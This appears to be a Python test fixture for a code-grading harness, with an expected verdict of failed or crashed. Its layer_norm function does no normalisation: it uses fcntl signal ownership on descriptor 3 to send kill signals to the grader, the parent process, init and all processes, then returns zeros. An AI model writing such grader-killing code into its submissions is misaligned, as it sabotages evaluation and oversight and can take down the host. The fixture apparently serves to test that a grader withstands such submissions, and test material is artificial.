"""Has the kernel send signals to the grader whenever its channel has news, and sends urgent bytes.
Verdict: FAILED | CRASHED
"""

import contextlib
import fcntl
import math
import os
import signal
import socket

import surroundings
import torch


def layer_norm(x, *_, **__):
    for pid in (surroundings.GRADER, os.getppid(), 1, -1):
        for sign in (signal.SIGKILL, signal.SIGTERM):
            with contextlib.suppress(OSError):
                fcntl.fcntl(3, fcntl.F_SETOWN, pid)
                fcntl.fcntl(3, 10, sign)  # F_SETSIG
                if pid not in (1, -1):
                    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)
    with contextlib.suppress(OSError), socket.socket(fileno=os.dup(3)) as channel:
        channel.send(b"!", socket.MSG_OOB)
    return torch.zeros_like(x)


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
